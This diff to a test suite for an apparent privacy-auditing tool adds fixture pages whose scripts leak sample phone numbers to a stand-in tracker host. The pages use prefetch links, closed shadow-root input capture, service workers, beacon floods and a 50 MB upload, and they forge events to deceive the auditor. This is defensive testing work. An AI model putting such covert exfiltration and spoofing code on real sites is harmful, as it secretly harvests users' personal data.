@@ -46,6 +46,27 @@ const PAGES: Record<string, string> = {
         document.body.insertAdjacentHTML('beforeend', '<div id="second" role="dialog" class="on"><p>Cookie 偏好</p><label><input type="checkbox"> 统计分析 Cookie</label><button>全部接受</button><button>全部拒绝</button><button>保存设置</button></div>');
       };
     }, 60)</script>`),
+  '/ahead': html(`<h1>先取</h1><link rel="prefetch" href="http://tracker.test:PORT/prefetch?tel=13900000009"><link rel="preload" as="fetch" crossorigin href="http://tracker.test:PORT/preload?tel=13900000010">
+    <script type="speculationrules">{ "prerender": [{ "source": "list", "urls": ["/guessed"], "eagerness": "immediate" }] }</script>
+    <closed-field></closed-field><script>
+    customElements.define('closed-field', class extends HTMLElement {
+      connectedCallback() {
+        const root = this.attachShadow({ mode: 'closed' });
+        root.innerHTML = '<label>手机号 <input name="mobile" style="width: 200px; height: 30px"></label>';
+        root.querySelector('input').oninput = ({ target }) => target.value.length === 11 && fetch('http://tracker.test:PORT/closed', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ q: target.value }) });
+      }
+    });
+    navigator.serviceWorker.register('/cache.js').then(() => navigator.serviceWorker.ready).then(() => setTimeout(() => fetch('/kept?tel=13900000012'), 600));</script>`),
+  '/guessed': html(`<h1>猜中</h1><script>${send('http://tracker.test:PORT/guess', '13900000011')}</script>`),
+  '/cache.js': 'addEventListener("install", () => skipWaiting()); addEventListener("activate", (event) => event.waitUntil(clients.claim())); addEventListener("fetch", (event) => new URL(event.request.url).pathname === "/kept" && event.respondWith(new Response("{}")));',
+  '/flood': html(`<h1>泛滥</h1><script>
+    for (let i = 0; i < 500; i++) navigator.sendBeacon('http://tracker.test:PORT/flood', 'tel=13900000013&n=' + i);
+    ${send('http://tracker.test:PORT/before', '13900000014')};
+    fetch('http://tracker.test:PORT/upload', { method: 'POST', mode: 'no-cors', body: new Uint8Array(50 * 1024 * 1024).fill(32).map((byte, i) => (i < 23 ? '{"phone":"13900000015"}'.charCodeAt(i) : byte)) });
+    for (const name of ['mingshi:offer', 'mingshi:ready']) for (let i = 0; i < 300; i++) document.dispatchEvent(new CustomEvent(name, { detail: i % 2 ? 'm' + 'a1'.repeat(9) : '' }));
+    const forged = [{ t: 'body', at: Date.now(), url: 'http://innocent.test/c', via: 'beacon', body: btoa('{"phone":"13900000016"}') }, { t: 'storage', at: Date.now(), area: 'local', key: 'uid', value: '7d793037-a076-4ba0-9f5d-5a8a2f1f0b6a', lifetimeHours: 9e9 }];
+    for (let i = 0; i < 300; i++) document.dispatchEvent(new CustomEvent('m' + 'a1'.repeat(9), { detail: JSON.stringify(forged) }));
+    window.postMessage({ type: 'bodies', bodies: forged }, '*');</script>`),
   '/frame': html('<form><label>手机号 <input name="mobile" id="mobile"></label><button>登录</button></form>'),
   '/widget': html(`<script>localStorage.setItem('widget_uid', '0f8fad5b-d9cb-469f-a165-70867728950e'); navigator.sendBeacon('http://tracker.test:PORT/blob', new Blob([JSON.stringify({ phone: '13900000008' })]));</script>`),
   '/worker.js': send('http://tracker.test:PORT/worker', '13900000005'),
@@ -178,5 +199,46 @@ it('keeps the layer a person answers while it still fades in, on a slow machine 
   expect(firstLayers.map(({ url }) => url.replace(/.*\//, ''))).toEqual([0, 1].flatMap((index) => moments.map((moment) => `${index}${moment}`)));
   expect(report.findings.find(({ rule }) => rule === 'unequal-choice')?.outcome).toBe('review');
   expect(report.findings.find(({ rule }) => rule === 'missing-refusal')?.outcome).toBe('pass');
+  await page.close();
+});
+
+it('sees what is fetched ahead, and what is typed into a closed shadow root; what a worker answers itself never left', async () => {
+  const page = await browser.newPage();
+  await page.goto(at('/ahead'));
+  await pause(600);
+  const field = (await page.evaluate('(() => { const { x, y } = document.querySelector("closed-field").getBoundingClientRect(); return [x + 120, y + 16]; })()')) as [number, number];
+  await page.mouse.click(...field);
+  await page.keyboard.type('13912345678');
+  await pause(2_500);
+  const { visit, report } = await visitOf(at('/ahead'));
+  for (const path of ['/prefetch', '/preload']) expect(kindsIn(requestsTo(visit, path)), path).toContain('phone');
+  expect(requestsTo(visit, '/closed').flatMap(({ items }) => items.map(({ kind, foundBy }) => [kind, foundBy]))).toContainEqual(['phone', 'needle']);
+  expect(requestsTo(visit, '/kept')).toEqual([]);
+  // A page that nobody went to: what it sends is known for what it is.
+  expect(requestsTo(visit, '/guess').every(({ speculative }) => speculative === true)).toBe(true);
+  expect(report.findings.find(({ rule }) => rule === 'data-sent-before-submit')?.outcome).toBe('violation');
+  await page.close();
+});
+
+it('stays whole when a page floods beacons, uploads 50 MB and forges what the extension tells itself', async () => {
+  const page = await browser.newPage();
+  const errors: string[] = [];
+  page.on('pageerror', (error) => errors.push(String(error)));
+  await page.goto(at('/flood'));
+  await pause(1_000);
+  const { visit, report } = await visitOf(at('/flood'));
+  expect(kindsIn(requestsTo(visit, '/before'))).toContain('phone');
+  expect(requestsTo(visit, '/flood').length).toBeGreaterThan(100);
+  expect(visit.exchanges.length).toBeLessThanOrEqual(3_000);
+  const [upload] = requestsTo(visit, '/upload');
+  expect(upload).toMatchObject({ body: 'cut' });
+  expect(upload!.bodyBytes).toBeLessThanOrEqual(64 * 1024);
+  expect(kindsIn([upload!])).toContain('phone');
+  // Nothing that was forged is believed.
+  expect(visit.exchanges.some(({ host }) => host === 'innocent.test')).toBe(false);
+  expect(visit.storage.some(({ key }) => key === 'uid')).toBe(false);
+  // Nobody typed those numbers: whose they are is for a person to say.
+  expect(report.findings.find(({ rule }) => rule === 'pre-consent-sharing')?.outcome).toBe('review');
+  expect(errors).toEqual([]);
   await page.close();
 });
